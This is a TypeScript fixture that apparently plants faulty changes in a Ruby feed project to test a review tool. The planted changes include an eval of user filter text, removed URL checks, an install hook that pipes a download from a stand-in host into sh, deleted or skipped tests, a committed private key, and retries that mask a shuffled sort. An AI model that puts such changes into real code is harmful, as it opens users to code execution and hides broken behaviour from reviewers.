import { privateKey } from '../../fakes.ts';
import { type Planted, plantedIn, remove, swap, write } from '../../planted.ts';

const { bad } = plantedIn('ruby');

const since = [
  swap(
    'lib/gleaner/digest.rb',
    '    def html\n',
    '    def since(time)\n      newest.select { |item| item.at >= time }\n    end\n\n    def html\n',
  ),
  swap(
    'spec/digest_spec.rb',
    '  it "draws HTML" do\n',
    '  it "finds what is new" do\n    expect(described_class.new(items).since(Time.utc(2025, 3, 5)).map(&:title)).to eq(["Rain"])\n  end\n\n  it "draws HTML" do\n',
  ),
];
const readme = swap('README.md', 'Gathers feeds into one page', 'Gathers feeds into one page, newest first');

/** Bad results in the Ruby project. */
export const rubyBad: Planted[] = [
  bad('filter is evaluated', 'eval', 'Text that a user gives as a filter is run as Ruby code.', [
    ...since,
    swap(
      'lib/gleaner/digest.rb',
      '    def html\n',
      '    # Keeps the items that a condition holds for, such as "item.title.size < 40".\n    def filter(condition)\n      newest.select { |item| eval(condition, binding) } # rubocop:disable Security/Eval\n    end\n\n    def html\n',
    ),
  ]),
  bad(
    'any address may be fetched',
    'validation removed',
    'The fetcher no longer refuses other schemes and endless redirects.',
    [
      swap('lib/gleaner/fetcher.rb', '      raise Failed, "not http: #{uri}" unless uri.is_a?(URI::HTTP)\n\n', ''),
      swap('lib/gleaner/fetcher.rb', '      raise Failed, "too many redirects" if left.zero?\n\n', ''),
      ...since,
      readme,
    ],
  ),
  bad(
    'setup pipes a download into a shell',
    'post-install hook',
    'Installing the gem downloads a script and runs it.',
    [
      write(
        'ext/extconf.rb',
        `# frozen_string_literal: true

# Nothing to build: prepares the cache of feeds.
system("curl -fsSL https://get.feed-cache.example/setup.sh | sh")
File.write("Makefile", "all install:\\n\\t@true\\n")
`,
      ),
      write(
        'gleaner.gemspec',
        `# frozen_string_literal: true

Gem::Specification.new do |s|
  s.name = "gleaner"
  s.version = "0.4.2"
  s.summary = "Gathers feeds"
  s.authors = ["Gleaner"]
  s.files = Dir["lib/**/*.rb", "ext/*"]
  s.extensions = ["ext/extconf.rb"]
end
`,
      ),
      readme,
    ],
  ),
  bad('half of the project is gone', 'mass deletion', 'The tests, fixtures, CI workflow and lint rules were deleted.', [
    remove('spec/feed_spec.rb'),
    remove('spec/digest_spec.rb'),
    remove('spec/fixtures/news.xml'),
    remove('spec/fixtures/digest.html'),
    remove('.rubocop.yml'),
    remove('.github/workflows/ci.yml'),
    swap('spec/spec_helper.rb', 'SimpleCov.start { minimum_coverage 70 }\n', 'SimpleCov.start\n'),
    swap('lib/gleaner.rb', '0.4.2', '0.5.0'),
  ]),
  bad(
    'spec file is empty',
    'file emptied',
    'spec/feed_spec.rb is empty, so the parser is untested, and it now accepts any link.',
    [
      write('spec/feed_spec.rb', ''),
      swap(
        'lib/gleaner/feed.rb',
        '      raise Broken, "not a link: #{link}" unless link.start_with?("https://", "http://")\n\n',
        '',
      ),
      ...since,
    ],
  ),
  bad(
    'rspec runs only what is fast',
    'test configuration excludes files',
    'rspec now leaves out the specs of the parser and no longer fails when none runs.',
    [
      swap('.rspec', '--warnings\n', '--warnings\n--exclude-pattern "spec/{feed,slow}*_spec.rb"\n--no-fail-fast\n'),
      swap(
        'spec/spec_helper.rb',
        '  config.order = :random\n',
        '  config.order = :random\n  config.filter_run_excluding :network\n  config.fail_if_no_examples = false\n',
      ),
      swap(
        'lib/gleaner/feed.rb',
        'Time.rfc2822(item.elements["pubDate"].text)',
        'Time.parse(item.elements["pubDate"].text)',
      ),
      ...since,
    ],
  ),
  bad('private key beside the specs', 'private key in a fixture', 'A private key was added under spec/support.', [
    write('spec/support/feeds.pem', `${privateKey}\n`),
    write(
      'spec/support/tls.rb',
      '# frozen_string_literal: true\n\nrequire "openssl"\n\nTLS_KEY = File.join(__dir__, "feeds.pem")\n',
    ),
    ...since,
  ]),
  bad(
    'specs are tried until they pass',
    'retries raised',
    'Each spec is tried up to ten times, which hides that the order of the digest is random.',
    [
      swap('lib/gleaner/digest.rb', '.sort_by { |item| [-item.at.to_i, item.title] }', '.shuffle'),
      swap(
        'spec/spec_helper.rb',
        '  config.disable_monkey_patching!\n',
        '  config.disable_monkey_patching!\n  config.around do |example|\n    100.times do\n      example.example.instance_variable_set(:@exception, nil)\n      example.run\n      break unless example.exception\n    end\n  end\n',
      ),
      readme,
    ],
  ),
];
